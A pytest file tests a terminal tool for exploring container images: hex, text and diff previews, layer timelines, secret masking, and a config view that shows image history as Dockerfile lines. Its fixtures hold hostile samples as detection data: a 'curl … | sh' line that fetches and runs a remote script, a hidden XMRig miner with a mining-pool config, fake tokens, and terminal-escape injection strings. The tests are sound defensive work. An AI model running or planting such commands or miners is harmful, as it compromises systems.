"""The preview (text, hex, timeline, diffs, findings in a copy) and the config view (config, history as a
Dockerfile, raw JSON, concepts, jumps from config and history findings), driven with keys."""

from __future__ import annotations

import pytest
from rich.text import Text

from explorer.scan.engine import DetectorSet
from explorer.demo.imagewriter import Entry, ImageSpec, Layer, write_image
from explorer.sources import open_image
from explorer.tui.app import ExplorerApp
from explorer.tui.lineview import LineView
from tests.support.pilot import view_copy
from explorer.tui.screens.config import ConfigView
from explorer.tui.screens.timeline import DiffPicker
from explorer.tui.screens.viewer import WINDOW, FileViewer
from explorer.tui.widgets.findings import FindingsTable

SIZE = (160, 48)


def copy_of(app, layer: int, path: str):
    return next(e for e in app.scan_index.analysis.layers[layer].entries if e.path == path and not e.is_whiteout)


async def until(pilot, test, attempts: int = 200) -> None:
    for _ in range(attempts):
        await pilot.pause(0.02)
        if test():
            await pilot.pause()
            return
    raise TimeoutError("the screen did not get there")


async def open_preview(pilot, layer: int, path: str) -> FileViewer:
    """The preview on one copy, as `v` opens it (without walking the tree to it)."""
    app = pilot.app
    viewer = FileViewer(app.scan_index.analysis, copy_of(app, layer, path), app.scan_index.result.findings)
    app.push_screen(viewer)
    await until(pilot, lambda: viewer.loaded and viewer.versions)
    return viewer


def shown(screen, selector: str = "#content") -> str:
    widget = screen.query_one(selector)
    return widget.plain if selector == "#timeline" else widget.lines.plain


async def press(pilot, screen, *keys) -> None:
    await pilot.press(*keys)
    await until(pilot, lambda: screen.loaded)


async def config_view(pilot) -> ConfigView:
    """`i`: the config view, once every tab is filled."""
    await pilot.press("i")
    view = pilot.app.screen
    assert isinstance(view, ConfigView)
    await until(pilot, lambda: view.ready)
    return view


async def choose(pilot, rule_id: str) -> None:
    """Select the finding of `rule_id` in the findings table and press enter twice (its detail view, then
    where it is)."""
    app = pilot.app
    table = app.query_one(FindingsTable)
    findings = getattr(table, "findings", app.scan_index.result.findings)
    table.focus()
    table.move_cursor(row=next(i for i, f in enumerate(findings) if f.rule_id == rule_id))
    await pilot.press("enter")
    await pilot.pause()
    await pilot.press("enter")
    await pilot.pause()


# -- preview --------------------------------------------------------------------------------------
async def test_text_preview_masks_secrets_lists_the_copys_findings_and_its_fate(demo_source, wait_for_scan):
    from tests.reports.test_no_secret_in_any_output import demo_secrets

    app = ExplorerApp(demo_source)
    async with app.run_test(size=SIZE) as pilot:
        await wait_for_scan(pilot, app)
        text = await view_copy(pilot, 2, "/srv/app/.env")  # keys: t, v
        viewer = app.screen
        assert isinstance(viewer, FileViewer) and viewer.mode == "text"
        assert "GITHUB_TOKEN=ghp_" in text and "SLACK_BOT_TOKEN=xoxb-" in text and "APP_ENV=production" in text
        for secret in demo_secrets():
            assert secret not in text and secret not in shown(viewer, "#matches")
        meta = str(viewer.query_one("#meta").render())
        assert "deleted in layer 4" in meta and "rm -rf /srv/app/.env" in meta and "layer 2" in meta
        assert "sha256 " + viewer.entry.digest in meta and "ASCII text" in meta and "2 secret(s) masked" in meta
        matches = shown(viewer, "#matches")
        assert "secret.github-pat" in matches and "secret.slack-token" in matches
        content = viewer.query_one("#content", LineView)
        assert set(content.marks) == {1, 2}  # lines 2 and 3 hold the tokens
        content.go_to(0)
        await pilot.press("m")
        assert content.cursor == 1
        await pilot.press("slash", *"slack", "enter")  # find text: typed keys are not bindings
        assert content.cursor == 2 and viewer.entry.layer == 2 and viewer.mode == "text"
        await pilot.press("escape")  # closes the find box only
        assert isinstance(app.screen, FileViewer) and not viewer.query_one("#find").display
        await pilot.press("escape")
        assert not isinstance(app.screen, FileViewer)


async def test_binary_copy_opens_as_hex_and_x_toggles_text(demo_source, wait_for_scan):
    app = ExplorerApp(demo_source, detectors=DetectorSet())
    async with app.run_test(size=SIZE) as pilot:
        await wait_for_scan(pilot, app)
        viewer = await open_preview(pilot, 3, "/tmp/.x/kworker")
        assert viewer.mode == "hex"
        hexdump = shown(viewer)
        assert hexdump.startswith("00000000  7f 45 4c 46 02 01 01 00") and "|.ELF....|" not in hexdump
        assert "|.ELF............|" in hexdump and "XMRig" in hexdump
        assert "ELF 64-bit" in str(viewer.query_one("#meta").render())
        await pilot.press("slash", *"supportxmr", "enter")  # in hex: bytes of the window
        assert viewer.query_one("#content", LineView).cursor == 0xa0 // 16
        await pilot.press("escape")
        await pilot.press("x")
        await until(pilot, lambda: viewer.loaded)
        assert viewer.mode == "text" and "\\x00" in shown(viewer)  # NULs shown escaped, not raw
        assert "\x00" not in shown(viewer)


async def test_timeline_walks_versions_and_d_diffs_against_the_previous_one(demo_source, wait_for_scan):
    app = ExplorerApp(demo_source, detectors=DetectorSet())
    async with app.run_test(size=SIZE) as pilot:
        await wait_for_scan(pilot, app)
        viewer = await open_preview(pilot, 5, "/usr/bin/curl")
        timeline = shown(viewer, "#timeline")
        assert "layer 1  added" in timeline and "layer 5  modified" in timeline and "RUN apt-get update" in timeline
        await press(pilot, viewer, "p")
        assert viewer.entry.layer == 1
        await press(pilot, viewer, "p")  # no older version: stays
        assert viewer.entry.layer == 1
        await press(pilot, viewer, "n")
        assert viewer.entry.layer == 5
        await pilot.click("#timeline", offset=(4, 1))  # the L1 row: the cursor goes there
        await pilot.click("#timeline", offset=(4, 1))  # again: show it
        await until(pilot, lambda: viewer.loaded and viewer.entry.layer == 1)
        await press(pilot, viewer, "n")
        await press(pilot, viewer, "d")
        assert viewer.mode == "diff"
        diff = shown(viewer)
        assert "--- /usr/bin/curl (layer 1)" in diff and "+++ /usr/bin/curl (layer 5)" in diff
        assert "-00000050  72 6c 00" in diff and "+00000050  72 6c 20 70 61 74 63 68" in diff
        assert "rl patched" in diff
        added = [row for row in viewer.query_one("#content", LineView).lines._rows if row.plain.startswith("+0")]
        assert added and added[0].style == "green"
        await pilot.press("escape")  # back to the content, not out of the preview
        assert isinstance(app.screen, FileViewer) and viewer.mode == "hex"


async def test_deleted_copies_are_readable_and_the_timeline_says_who_deleted_them(demo_source, wait_for_scan):
    app = ExplorerApp(demo_source, detectors=DetectorSet())
    async with app.run_test(size=SIZE) as pilot:
        await wait_for_scan(pilot, app)
        viewer = await open_preview(pilot, 3, "/tmp/.x/config.json")
        assert "pool.supportxmr.com" in shown(viewer)
        timeline = shown(viewer, "#timeline")
        assert "layer 3  added" in timeline and "layer 4  deleted" in timeline and "rm -rf" in timeline
        assert "with /tmp/.x" in timeline
        assert "not visible in the final image" in str(viewer.query_one("#meta").render())


def versions_image(tmp_path) -> str:
    big = bytes(range(256)) * (WINDOW // 256 + 4096)  # a bit more than one window
    spec = ImageSpec(layers=[
        Layer([Entry.dir("/etc"), Entry.file("/etc/app.conf", b"port = 80\nmode = safe\nname = demo\n"),
               Entry.file("/data.bin", big)], created_by="COPY app.conf /etc/"),
        Layer([Entry.dir("/etc"),
               Entry.file("/etc/app.conf", b"port = 8080\nmode = safe\nname = demo\n"
                                           b"token = ghp_Zq8ZkX4mP2vR7tY9wB3nL6hJ1sD5fG0aQ2eC\n")],
              created_by="RUN sed -i s/80/8080/ /etc/app.conf"),
        Layer([Entry.dir("/etc"), Entry.file("/etc/app.conf", b"port = 9090\n\x1b[31m[bold red]x[/bold red]\n")],
              created_by="RUN echo \x1b]0;pwned\x07 > /etc/app.conf"),
    ])
    return write_image(spec, str(tmp_path / "versions.tar"))


async def test_diff_any_two_versions_is_a_masked_text_diff(tmp_path, wait_for_scan):
    with open_image(versions_image(tmp_path)) as source:
        app = ExplorerApp(source)
        async with app.run_test(size=SIZE) as pilot:
            await wait_for_scan(pilot, app)
            viewer = await open_preview(pilot, 2, "/etc/app.conf")
            await pilot.press("D")
            picker = app.screen
            assert isinstance(picker, DiffPicker) and len(picker.versions) == 3
            await pilot.press("enter", "down", "enter")  # layer 0, then layer 1
            await until(pilot, lambda: viewer.loaded and viewer.mode == "diff")
            diff = shown(viewer)
            assert "-port = 80" in diff and "+port = 8080" in diff and " mode = safe" in diff
            assert "+token = ghp_Zq8Z" in diff and "ghp_Zq8ZkX4mP2vR7tY9wB3nL6hJ1sD5fG0aQ2eC" not in diff
            await pilot.press("d")  # d again: back to the content
            assert viewer.mode == "text"
            text = shown(viewer)
            assert "\x1b" not in text and "\\x1b[31m[bold red]x[/bold red]" in text  # escaped, never styled
            meta = str(viewer.query_one("#meta").render())
            assert "\x1b" not in meta and "\x07" not in meta and "\\x1b]0;pwned\\x07" in meta


async def test_big_binary_is_paged_window_by_window_in_hex(tmp_path, wait_for_scan):
    with open_image(versions_image(tmp_path)) as source:
        app = ExplorerApp(source, detectors=DetectorSet())
        async with app.run_test(size=SIZE) as pilot:
            await wait_for_scan(pilot, app)
            viewer = await open_preview(pilot, 0, "/data.bin")
            content = viewer.query_one("#content", LineView)
            assert viewer.mode == "hex" and len(content.lines) == WINDOW // 16
            assert "next window" in str(content.border_title)
            await press(pilot, viewer, "greater_than_sign")
            assert viewer.current.offset == WINDOW
            assert shown(viewer).startswith(f"{WINDOW:08x}  00 01 02 03")
            await press(pilot, viewer, "less_than_sign")
            assert viewer.current.offset == 0


async def test_hostile_name_and_content_are_plain_text_in_the_preview(tmp_path, wait_for_scan):
    evil = "/d/[bold red]x\x1b[31m\u202e.sh"
    content = b"#!/bin/sh\n[link=http://x]y[/link] \x1b]0;t\x07\n"
    spec = ImageSpec(layers=[Layer([Entry.dir("/d"), Entry.file(evil, content)], created_by="COPY . /d")])
    with open_image(write_image(spec, str(tmp_path / "evil.tar"))) as source:
        app = ExplorerApp(source, detectors=DetectorSet())
        async with app.run_test(size=SIZE) as pilot:
            await wait_for_scan(pilot, app)
            viewer = await open_preview(pilot, 0, evil)
            meta = str(viewer.query_one("#meta").render())
            assert "[bold red]x\\x1b[31m\\u202e.sh" in meta and "\x1b" not in meta and "\u202e" not in meta
            text = shown(viewer)
            assert viewer.current.language == "bash"  # highlighted, yet never interpreted as markup
            assert "[link=http://x]y[/link] \\x1b]0;t\\x07" in text and "\x07" not in text
            rows = viewer.query_one("#content", LineView).lines
            assert all(not any(span.style and "link" in str(span.style) for span in rows.row(i).spans)
                       for i in range(len(rows)))


# -- config view ----------------------------------------------------------------------------------
async def test_i_opens_the_config_view_with_masked_env_and_every_tab(demo_source, wait_for_scan):
    from tests.reports.test_no_secret_in_any_output import demo_secrets

    app = ExplorerApp(demo_source)
    async with app.run_test(size=SIZE) as pilot:
        await wait_for_scan(pilot, app)
        view = await config_view(pilot)
        config = shown(view, "#view-config")
        assert "ENV AWS_SECRET_ACCESS_KEY=" in config and "VOLUME /var/run/docker.sock" in config
        assert 'CMD ["/bin/sh", "-c", "python3 /srv/app/app.py"]' in config and "no USER" in config
        assert "[1 critical] ENV AWS_SECRET_ACCESS_KEY" in config and "[1 medium] VOLUME" in config
        await pilot.press("2")
        history = shown(view, "#view-history").splitlines()
        assert history[1].split()[:2] == ["layer", "1"] and "RUN apt-get update && apt-get install -y curl" in history[1]
        assert "ARG NPM_TOKEN" in history[2] and "empty" in history[2] and "build args: NPM_TOKEN=npm_" in history[2]
        assert "[1 medium]" in history[5] and "RUN curl -fsSL http://203.0.113.7/install.sh | sh" in history[5]
        assert "COPY app/ /srv/app/" in history[3] and "# buildkit" not in history[3]
        texts = {tab: shown(view, f"#view-{tab}") for tab in ("config", "history", "manifest", "config-json",
                                                              "index", "concepts")}
        assert '"Config":' in texts["manifest"] and '"diff_ids": [' in texts["config-json"]
        assert '"manifests": [' in texts["index"]
        assert ".wh..wh..opq" in texts["concepts"] and "diff_id" in texts["concepts"]
        for tab in ("3", "4", "5", "6"):
            await pilot.press(tab)
        assert view.active == "concepts"
        await pilot.click("#tab-bar", offset=(3, 0))  # the first title: Config
        assert view.active == "config"
        for text in texts.values():
            for secret in demo_secrets():
                assert secret not in text
        await pilot.press("escape")
        assert not isinstance(app.screen, ConfigView)


async def test_config_and_history_findings_open_the_config_view_at_their_line(demo_source, wait_for_scan):
    app = ExplorerApp(demo_source)
    async with app.run_test(size=SIZE) as pilot:
        await wait_for_scan(pilot, app)
        await choose(pilot, "misconfig.config.sensitive-volume")
        view = app.screen
        assert isinstance(view, ConfigView)
        await until(pilot, lambda: view.ready)
        rows = shown(view, "#view-config").splitlines()
        config = view.query_one("#view-config", LineView)
        assert "VOLUME /var/run/docker.sock" in rows[config.cursor]
        await pilot.press("escape")

        await choose(pilot, "suspicious.history.download-exec")
        view = app.screen
        await until(pilot, lambda: view.ready)
        assert view.active == "history"
        history = view.query_one("#view-history", LineView)
        assert history.cursor == 5 and "RUN curl -fsSL" in history.lines.row(5).plain
        await pilot.press("p")  # previous line with a finding
        assert history.cursor == 4 and "ENV AWS_SECRET_ACCESS_KEY" in history.lines.row(4).plain
        history.go_to(3)
        await pilot.press("enter")  # the COPY of layer 2: the main screen selects it
        await pilot.pause()
        assert not isinstance(app.screen, ConfigView) and app.layer_index == 2


async def test_hostile_config_and_history_are_plain_text(tmp_path, wait_for_scan):
    spec = ImageSpec(layers=[Layer([Entry.dir("/d")], created_by="RUN echo \x1b[2J\x1b]8;;http://x\x07[link=x]y")],
                     env=["EVIL=\x1b[31m[bold]red\u202e", "API_TOKEN=ghp_Zq8ZkX4mP2vR7tY9wB3nL6hJ1sD5fG0aQ2eC"],
                     labels={"\x1b[1mkey": "[red]v", "db.password": "hunter2hunter2hunter2"})
    with open_image(write_image(spec, str(tmp_path / "evil.tar"))) as source:
        app = ExplorerApp(source)
        async with app.run_test(size=SIZE) as pilot:
            await wait_for_scan(pilot, app)
            await pilot.press("i")
            view = app.screen
            await until(pilot, lambda: view.ready)
            for tab in ("config", "history", "manifest", "config-json", "index"):
                if not view.query(f"#view-{tab}"):
                    continue
                lines = view.query_one(f"#view-{tab}", LineView).lines
                text = lines.plain
                assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text, tab
                assert "ghp_Zq8ZkX4mP2vR7tY9wB3nL6hJ1sD5fG0aQ2eC" not in text and "hunter2hunter2hunter2" not in text
                assert all(isinstance(lines.row(i), Text) for i in range(len(lines)))
            config = shown(view, "#view-config")
            assert "ENV EVIL=\\x1b[31m[bold]red\\u202e" in config and 'LABEL \\x1b[1mkey="[red]v"' in config
            assert "ENV API_TOKEN=ghp_Zq8Z" in config
            assert "\\x1b[2J" in shown(view, "#view-history")


@pytest.mark.parametrize("created_by, expected", [
    ("/bin/sh -c #(nop)  CMD [\"sh\"]", 'CMD ["sh"]'),
    ("/bin/sh -c apt-get update", "RUN apt-get update"),
    ("RUN /bin/sh -c make # buildkit", "RUN make"),
    ("|2 A=1 B='x y' /bin/sh -c make", "RUN make"),
    ("WORKDIR /app", "WORKDIR /app"),
    ("", "# (no created_by)"),
])
def test_history_lines_become_dockerfile_instructions(created_by, expected):
    from explorer.reports.imageconfig import instruction

    assert instruction(created_by)[0] == expected


async def test_a_config_nested_900_deep_fills_every_tab_of_the_config_view(tmp_path, wait_for_scan):
    """Was: every tab left on "loading…" (a RecursionError in the JSON redactor, on the worker)."""
    from explorer.reports.imageconfig import MAX_DEPTH

    deep: list = []
    inner = deep
    for _ in range(899):
        inner.append([])
        inner = inner[0]
    spec = ImageSpec(layers=[Layer([Entry.dir("/d")], created_by="RUN true")],
                     extra_config={"Healthcheck": {"Test": deep}, "X-Deep": deep})
    with open_image(write_image(spec, str(tmp_path / "deep.tar"))) as source:
        app = ExplorerApp(source, detectors=DetectorSet())
        async with app.run_test(size=SIZE) as pilot:
            await wait_for_scan(pilot, app)
            view = await config_view(pilot)
            texts = {tab: shown(view, f"#view-{tab}") for tab in ("config", "history", "manifest", "config-json",
                                                                  "concepts") if view.query(f"#view-{tab}")}
            assert set(texts) >= {"config", "history", "config-json"}
            assert not [tab for tab, text in texts.items() if "loading…" in text or "cannot show" in text]
            assert "HEALTHCHECK" in texts["config"] and "RUN true" in texts["history"]
            cut = f"nested deeper than {MAX_DEPTH} levels: not shown"
            assert texts["config-json"].count(cut) == 2 and '"X-Deep": [' in texts["config-json"]
